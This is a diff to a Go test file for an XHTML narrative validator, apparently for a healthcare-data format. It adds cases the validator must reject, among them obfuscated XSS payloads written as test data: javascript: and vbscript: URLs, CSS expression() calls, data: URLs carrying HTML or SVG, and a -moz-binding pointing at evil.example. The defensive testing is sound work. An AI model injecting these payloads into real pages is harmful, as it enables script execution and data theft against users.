@@ -62,6 +62,11 @@ var validCases = []string{
 	obs(`,"note":[{"text":"line one\r\n\tline two \u00a0 \ud83d\ude00"}]`),
 	narrative(`<div xmlns="http://www.w3.org/1999/xhtml" lang="en" xml:lang="en"><h1 class="c">A &amp; B&#160;&lt;</h1><table border="1"><tbody><tr><td colspan="2" style="color:red">x</td></tr></tbody></table><a href="https://example.org/a" name="n">a</a><br/><img src="#b" alt="b"/></div>`),
 	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><img src="data:image/png;base64,AAAA"/></div>`),
+	// An img's data URL of a raster image, in any case and with
+	// parameters, and styles a browser runs nothing of (a url() of an
+	// image, a raster data URL, a word that only looks like a scheme).
+	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><img src=" DATA:Image/JPEG;name=x.jpg;base64,AAAA"/><img src="data:image/gif,x" alt="g"/></div>`),
+	narrative(`<div xmlns="http://www.w3.org/1999/xhtml"><p style="color: red; background: url('https://example.org/bg.png') no-repeat; font-family: 'Expression Sans'">x</p><span style="background-image:url(data:image/png;base64,AAAA)">y</span><span style="content:'javascript'">z</span></div>`),
 	narrative("\n<h:div xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:p>x</h:p></h:div>\n"),
 	// An HTML entity and a comment: well-formed XHTML to a reader that
 	// knows HTML's entities, which the reference validators accept and
@@ -203,6 +208,31 @@ var narrativeCases = func() []invalid {
 		{"a comment an HTML parser closes at once", `<div ` + ns + `>SECRET<!--><img src=x onerror=steal()>--></div>`},
 		{"a processing instruction", `<div ` + ns + `>SECRET<?x ><img src=x onerror=steal()>?></div>`},
 		{"a DOCTYPE", `<!DOCTYPE div><div ` + ns + `>SECRET</div>`},
+		// Active content in a style attribute (txt-1 allows internally
+		// contained style attributes, not scripts), and data and script
+		// URLs as a browser decodes them: character references (decoded
+		// by XML before), case, white space, CSS escapes and comments.
+		{"a javascript: url() in a style", `<div ` + ns + `><p style="background:url(javascript:steal())">SECRET</p></div>`},
+		{"a javascript: url() in a style, quoted and escaped", `<div ` + ns + `><p style="background:url('\6a ava&#x9;script:steal()')">SECRET</p></div>`},
+		{"a javascript: url() in a style with character references", `<div ` + ns + `><p style="background:url(&#106;avascript&#58;steal())">SECRET</p></div>`},
+		{"a vbscript: url() in a style", `<div ` + ns + `><p style="background-image: URL( &quot;VBScript:steal&quot; )">SECRET</p></div>`},
+		{"an expression() in a style", `<div ` + ns + `><p style="width:expression(steal())">SECRET</p></div>`},
+		{"an expression() in a style in disguise", `<div ` + ns + `><p style="width:EXPR/**/ession (steal())">SECRET</p></div>`},
+		{"an expression() in a style escaped", `<div ` + ns + `><p style="width:e\78 pression(steal())">SECRET</p></div>`},
+		{"a -moz-binding in a style", `<div ` + ns + `><p style="-moz-binding:url(https://evil.example/x.xml#x)">SECRET</p></div>`},
+		{"a behavior in a style", `<div ` + ns + `><p style="behavior: url(x.htc)">SECRET</p></div>`},
+		{"a data: url() of HTML in a style", `<div ` + ns + `><p style="background:url(data:text/html,&lt;script&gt;steal()&lt;/script&gt;)">SECRET</p></div>`},
+		{"a data: url() of SVG in a style", `<div ` + ns + `><p style="background:url('data:image/svg+xml;base64,PHN2Zz4=')">SECRET</p></div>`},
+		{"a data: link", `<div ` + ns + `><a href="data:text/html;base64,PHNjcmlwdD4=">SECRET</a></div>`},
+		{"a data: link in disguise", `<div ` + ns + `><a href="&#x20;DaTa&#x0A;:text/html,x">SECRET</a></div>`},
+		{"a data: link of an image", `<div ` + ns + `><a href="data:image/png;base64,AAAA">SECRET</a></div>`},
+		{"a data: image of SVG", `<div ` + ns + `><img src="data:image/svg+xml;base64,PHN2Zz4="/>SECRET</div>`},
+		{"a data: image of HTML", `<div ` + ns + `><img src="data:text/html,x"/>SECRET</div>`},
+		{"a data: image of no type", `<div ` + ns + `><img src="data:,x"/>SECRET</div>`},
+		{"a data: cite", `<div ` + ns + `><blockquote cite="data:text/html,x">SECRET</blockquote></div>`},
+		{"a vbscript: link in capitals", `<div ` + ns + `><a href="VBSCRIPT:steal">SECRET</a></div>`},
+		{"a javascript: link with character references", `<div ` + ns + `><a href="&#x6A;&#x61;vascript&#x3A;steal()">SECRET</a></div>`},
+		{"a javascript: link with HTML5's named references", `<div ` + ns + `><a href="javascript&colon;steal()">SECRET</a></div>`},
 	} {
 		out = append(out, invalid{"a narrative with " + c.name, narrative(c.div), Format, "Observation.text.div"})
 	}
